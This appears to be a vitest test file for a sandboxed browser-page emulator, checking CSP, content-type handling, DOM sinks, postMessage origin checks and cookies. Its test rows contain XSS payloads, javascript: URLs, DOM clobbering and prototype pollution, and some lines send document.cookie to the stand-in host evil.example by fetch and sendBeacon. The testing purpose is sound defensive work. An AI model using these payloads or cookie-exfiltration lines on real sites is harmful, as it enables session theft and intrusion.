import { afterAll, beforeAll, describe, expect, it } from "vitest";

import type { Json } from "@loopwright/core";

import { createSandbox } from "./sandbox.ts";

const html = { "Content-Type": "text/html" };
const csp = (policy: string) => ({ ...html, "Content-Security-Policy": policy });
const inline = "<script>alert(1)</script>";
const image = "<img src=x onerror=alert(1)>";
const listen = (body: string) =>
  `<p id=o></p><script>addEventListener("message",(e)=>{${body}})</script>`;
const evil = (data: Json) => [{ message: { origin: "https://evil.example", data } }];

type Given = {
  html: string;
  url?: string;
  status?: number;
  headers?: Record<string, string>;
  serves?: Record<string, Json>;
  acts?: Json[];
};

const files = {
  "public/app.js": `const shop = { total: (n) => n * 2 }; function hello() { return "hi"; }`,
  "static/late.js": "alert(typeof shop + document.readyState)",
  "public/cart.mjs": `import { tax } from "./tax.mjs"; export const sum = (n) => n + tax; export default class Cart {}`,
  "public/tax.mjs": "export const tax = 2;",
  "server.js": "secret",
};

const rows: [name: string, given: Given, expected: object][] = [
  // Content types.
  [
    "JSON is not a page",
    { html: inline, headers: { "content-type": "application/json" } },
    { alerts: [], text: inline },
  ],
  [
    "plain text is not a page",
    { html: inline, headers: { "Content-Type": "text/plain" } },
    { alerts: [] },
  ],
  ["no type is sniffed", { html: inline, headers: {} }, { alerts: ["1"] }],
  [
    "no type, but nosniff",
    { html: inline, headers: { "X-Content-Type-Options": "nosniff" } },
    { alerts: [] },
  ],
  [
    "an SVG picture opened",
    {
      html: "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
      headers: { "Content-Type": "image/svg+xml" },
    },
    { alerts: ["1"] },
  ],
  [
    "a download",
    { html: inline, headers: { ...html, "Content-Disposition": "attachment; filename=a.html" } },
    { alerts: [], text: "" },
  ],
  [
    "a redirect is not followed",
    { html: inline, status: 302, headers: { ...html, Location: "//evil.example/x" } },
    {
      alerts: [],
      status: 302,
      requests: [{ method: "GET", url: "https://evil.example/x", body: null }],
    },
  ],
  // Content security policy.
  [
    "script-src 'self' stops inline scripts",
    { html: inline, headers: csp("script-src 'self'") },
    { alerts: [], blocked: [{ directive: "script-src", what: "inline script" }] },
  ],
  [
    "default-src stands in",
    { html: image, headers: csp("default-src 'self'") },
    { alerts: [], blocked: [{ directive: "default-src", what: "inline handler" }] },
  ],
  [
    "'unsafe-inline'",
    { html: inline + image, headers: csp("script-src 'self' 'unsafe-inline'") },
    { alerts: ["1", "1"] },
  ],
  [
    "a nonce switches 'unsafe-inline' off",
    { html: inline, headers: csp("script-src 'unsafe-inline' 'nonce-a1'") },
    { alerts: [] },
  ],
  [
    "the right nonce",
    {
      html: "<script nonce=a1>alert(2)</script>" + inline + image,
      headers: csp("script-src 'nonce-a1'"),
    },
    { alerts: ["2"] },
  ],
  [
    "a hash",
    {
      html: inline + "<script>alert(2)</script>",
      headers: csp("script-src 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"),
    },
    { alerts: ["1"] },
  ],
  [
    "javascript: addresses",
    {
      html: "<a id=c href='javascript:alert(1)'>x</a>",
      headers: csp("script-src 'self'"),
      acts: [{ click: "#c" }],
    },
    { alerts: [], blocked: [{ what: "javascript: address" }] },
  ],
  [
    "eval",
    {
      html: "<script nonce=a>try { eval('alert(1)') } catch (e) { alert(e.name) } try { (()=>{}).constructor('alert(1)')() } catch (e) { alert(2) } setTimeout('alert(3)')</script>",
      headers: csp("script-src 'nonce-a'"),
    },
    { alerts: ["EvalError", "2"] },
  ],
  [
    "a host elsewhere",
    {
      html: "<script src=//cdn.example/a.js></script><script src=/app.js></script><script nonce=a>alert(hello())</script>",
      headers: csp("script-src 'self' 'nonce-a'"),
    },
    { alerts: ["hi"], blocked: [{ what: "https://cdn.example/a.js" }] },
  ],
  [
    "'strict-dynamic' trusts what a trusted script adds",
    {
      html: "<script nonce=a>var s=document.createElement('script');s.src='/static/late.js';document.head.append(s)</script><script src=/app.js></script>",
      headers: csp("script-src 'nonce-a' 'strict-dynamic' 'self'"),
    },
    { alerts: ["undefinedinteractive"] },
  ],
  [
    "connect-src",
    {
      html: "<script>fetch('https://evil.example/?'+document.cookie).catch((e)=>alert(e.name))</script>",
      headers: csp("connect-src 'self'"),
    },
    { alerts: ["TypeError"], requests: [] },
  ],
  [
    "img-src",
    { html: "<img src=https://evil.example/a>", headers: csp("img-src 'self'") },
    { requests: [], blocked: [{ directive: "img-src" }] },
  ],
  [
    "form-action",
    {
      html: "<form id=f action=//evil.example><input name=a value=1></form><script>f.submit()</script>",
      headers: csp("form-action 'self'"),
    },
    { requests: [] },
  ],
  [
    "base-uri",
    {
      html: "<base href=//evil.example/><script src=app.js></script><script>alert(hello())</script>",
      headers: csp("base-uri 'none'"),
    },
    { alerts: ["hi"] },
  ],
  [
    "a policy in meta",
    {
      html: "<meta http-equiv=Content-Security-Policy content=\"script-src 'self'\">" + inline,
      headers: html,
    },
    { alerts: [] },
  ],
  [
    "report-only stops nothing",
    {
      html: inline,
      headers: { ...html, "Content-Security-Policy-Report-Only": "script-src 'none'" },
    },
    { alerts: ["1"] },
  ],
  [
    "two policies must agree",
    { html: inline, headers: csp("script-src 'unsafe-inline', default-src 'self'") },
    { alerts: [] },
  ],
  // The address, and what is done with it.
  [
    "a fragment written out",
    {
      html: "<p id=o></p><script>o.innerHTML=decodeURIComponent(location.hash.slice(1))</script>",
      url: "/#<img src=x onerror=alert(1)>",
    },
    { alerts: ["1"] },
  ],
  [
    "a fragment is encoded until it is decoded",
    {
      html: "<p id=o></p><script>o.innerHTML=location.hash.slice(1)</script>",
      url: "/#<img src=x onerror=alert(1)>",
    },
    {
      alerts: [],
      text: "<img%20src=x%20onerror=alert(1)>".replace(
        /<.*>/,
        "%3Cimg%20src=x%20onerror=alert(1)%3E",
      ),
    },
  ],
  [
    "a query parameter",
    {
      html: "<p id=o></p><script>o.textContent=new URLSearchParams(location.search).get('q')</script>",
      url: "/?q=a%3Cb+c",
    },
    { text: "a<b c", alerts: [] },
  ],
  [
    "hashchange",
    { html: "<script>onhashchange=()=>alert(location.hash)</script>", acts: [{ hash: "two" }] },
    { alerts: ["#two"], location: "https://shop.example/#two" },
  ],
  [
    "the page goes elsewhere",
    {
      html: "<script>location.href=new URLSearchParams(location.search).get('next')</script>",
      url: "/?next=//evil.example/x",
    },
    { location: "https://evil.example/x", requests: [{ url: "https://evil.example/x" }] },
  ],
  [
    "location to javascript:",
    {
      html: "<script>location.href=new URLSearchParams(location.search).get('next')</script>",
      url: "/?next=%20JAVAscript:alert(1)",
    },
    { alerts: ["1"] },
  ],
  [
    "history.pushState",
    { html: "<script>history.pushState({},'','/orders/7')</script>" },
    { location: "https://shop.example/orders/7", requests: [] },
  ],
  [
    "a base element sends scripts elsewhere",
    { html: "<base href=https://evil.example/><script src=app.js></script>" },
    { requests: [{ url: "https://evil.example/app.js" }] },
  ],
  // The page's own requests.
  [
    "fetch gets what is served",
    {
      html: "<p id=o></p><script>fetch('/api/me?x=1').then((r)=>r.json()).then((m)=>{o.innerHTML=m.name})</script>",
      serves: { "/api/me": { name: image } },
    },
    {
      alerts: ["1"],
      requests: [
        { method: "GET", url: "https://shop.example/api/me?x=1" },
        { url: "https://shop.example/x" },
      ],
    },
  ],
  [
    "fetch gets 404 for others, and await works",
    {
      html: "<script>(async()=>{const r=await fetch('/no',{method:'POST',body:JSON.stringify({a:1})});alert(r.status)})()</script>",
    },
    { alerts: ["404"], requests: [{ method: "POST", body: '{"a":1}' }] },
  ],
  [
    "XMLHttpRequest",
    {
      html: "<script>var x=new XMLHttpRequest();x.open('GET','/t');x.onload=()=>alert(x.status+x.responseText);x.send()</script>",
      serves: { "/t": "text" },
    },
    { alerts: ["200text"] },
  ],
  [
    "a beacon",
    {
      html: "<script>navigator.sendBeacon('https://evil.example/b','c='+document.cookie)</script>",
      headers: { ...html, "Set-Cookie": "sid=7; Path=/; Secure" },
    },
    {
      requests: [{ method: "POST", url: "https://evil.example/b", body: "c=sid=7" }],
      cookies: "sid=7",
    },
  ],
  [
    "HttpOnly hides a cookie",
    {
      html: "<script>document.cookie='a=1';alert(document.cookie)</script>",
      headers: { ...html, "Set-Cookie": "sid=7; HttpOnly" },
    },
    { alerts: ["a=1"], cookies: "a=1" },
  ],
  [
    "a form is sent",
    {
      html: "<form action=/pay method=post><input name=to value='a b'><button id=c name=go value=1>Pay</button></form>",
      acts: [{ click: "#c" }],
    },
    {
      requests: [{ method: "POST", url: "https://shop.example/pay", body: "to=a+b&go=1" }],
      location: "https://shop.example/pay",
    },
  ],
  [
    "a form held back by its page",
    {
      html: "<form id=f action=/pay><button id=c>x</button></form><script>f.addEventListener('submit',(e)=>{e.preventDefault();alert(new FormData(f).get('q'))})</script>",
      acts: [{ click: "#c" }],
    },
    { alerts: ["null"], requests: [] },
  ],
  // The program's own scripts.
  [
    "scripts share their globals",
    { html: "<script src=/app.js></script><script>alert(hello()+shop.total(3))</script>" },
    { alerts: ["hi6"] },
  ],
  [
    "defer waits for the document",
    { html: "<script defer src=/static/late.js></script><script src=/app.js></script>" },
    { alerts: ["objectinteractive"] },
  ],
  [
    "modules import",
    {
      html: "<script type=module>import Cart, { sum } from '/cart.mjs'; alert(sum(1) + typeof Cart)</script>",
    },
    { alerts: ["3function"] },
  ],
  [
    "what is not public is not served",
    { html: "<script src=/none.js onerror=alert(1)></script>" },
    { alerts: ["1"], faults: ["https://shop.example/none.js: no such script"] },
  ],
  // Messages.
  [
    "a message from anywhere is believed",
    { html: listen("o.innerHTML=e.data"), acts: evil(image) },
    { alerts: ["1"] },
  ],
  [
    "a message's origin is checked",
    { html: listen("if(e.origin==='https://shop.example')o.innerHTML=e.data"), acts: evil(image) },
    { alerts: [] },
  ],
  [
    "an origin checked by its beginning",
    {
      html: listen("if(e.origin.startsWith('https://shop.example'))o.innerHTML=e.data"),
      acts: [{ message: { origin: "https://shop.example.evil.example", data: image } }],
    },
    { alerts: ["1"] },
  ],
  [
    "an answer to anyone",
    { html: listen("e.source.postMessage({token:7},'*')"), acts: evil("hi") },
    { messages: [{ data: { token: 7 }, to: "*" }] },
  ],
  // What a user does.
  [
    "input is shown",
    {
      html: "<input id=i><p id=o></p><script>i.oninput=()=>{o.innerHTML=i.value}</script>",
      acts: [{ input: { selector: "#i", value: image } }],
    },
    { alerts: ["1"] },
  ],
  [
    "listeners bubble and delegate",
    {
      html: "<ul id=l><li class=x data-id=7><b>go</b></ul><script>l.addEventListener('click',(e)=>alert(e.target.closest('.x').dataset.id))</script>",
      acts: [{ click: "li > b" }],
    },
    { alerts: ["7"] },
  ],
  [
    "pointing comes before a click",
    { html: "<a id=c onmouseover=alert(1)>x</a>", acts: [{ click: "#c" }] },
    { alerts: ["1"] },
  ],
  [
    "nobody is there to click",
    { html: "<p>", acts: [{ click: "#gone" }] },
    { faults: ["click: the page has no #gone"] },
  ],
  // The rest of the report.
  [
    "title and text",
    {
      html: "<title>Your &amp; order</title><p>One <b>two</b></p><p hidden>no</p><style>p{}</style><p>three",
    },
    { title: "Your & order", text: "One two three" },
  ],
  [
    "faults and console",
    {
      html: "<script>console.log('a',{b:1}); nope()</script><script>throw new TypeError('x')</script>",
    },
    { console: ['a {"b":1}'], faults: ["ReferenceError: 'nope' is not defined", "TypeError: x"] },
  ],
  [
    "clobbered names",
    {
      html: "<a id=config href='https://evil.example/x.js'></a><script>var s=document.createElement('script');s.src=window.config||'/app.js';document.head.append(s)</script>",
    },
    { requests: [{ url: "https://evil.example/x.js" }] },
  ],
  [
    "a polluted prototype",
    {
      html: "<script>Object.prototype.src='x';alert(({}).src)</script><p>ok",
    },
    { alerts: ["x"], text: "ok" },
  ],
  [
    "broken built-ins",
    { html: "<script>Array.prototype.push = Array.prototype[Symbol.iterator] = null</script><p>x" },
    { status: 200 },
  ],
  [
    "the next page knows nothing of it",
    {
      html: "<script>alert(String(({}).src)+typeof [].push+typeof Buffer+typeof process)</script>",
    },
    { alerts: ["undefinedfunctionundefinedundefined"] },
  ],
  [
    "a flood is bounded",
    { html: "<script>for(let i=0;i<9999;i++)alert('x'.repeat(9999))</script>" },
    {},
  ],
];

describe("a page", () => {
  let seen: { alerts: string[] }[] = [];
  const sandbox = createSandbox({ warm: 1 });
  const pageOf = ({ url = "/", status = 200, headers = html, ...given }: Given) => ({
    url: `https://shop.example${url}`,
    status,
    headers: Object.entries(headers),
    ...given,
  });
  const show = async (pages: Json[], limits = {}) =>
    (await sandbox).run({ language: "javascript", image: "page", files, input: { pages }, limits });
  beforeAll(async () => {
    const { result } = await show(
      rows.map(([, given]) => pageOf(given) as Json),
      { timeMs: 60_000 },
    );
    seen = (result as { pages: typeof seen }).pages;
  }, 90_000);
  afterAll(async () => (await sandbox).close());

  it.each(rows.map(([name, , expected], index) => ({ name, expected, index })))(
    "$name",
    ({ expected, index }) => {
      expect(seen[index]).toMatchObject(expected);
    },
  );

  it("is bounded", () => {
    expect(JSON.stringify(seen.at(-1)).length).toBeLessThan(25_000);
    expect(seen.at(-1)!.alerts.length).toBeGreaterThan(0);
  });

  it("ends by the limit where a script never does, and the next run is unharmed", async () => {
    const loop = pageOf({ html: "<script>for(;;);</script>" }) as Json;
    expect((await show([loop], { timeMs: 1500 })).end).toBe("time");
    const { result } = await show([pageOf({ html: inline })]);
    expect(result).toMatchObject({ pages: [{ alerts: ["1"] }] });
  });
});
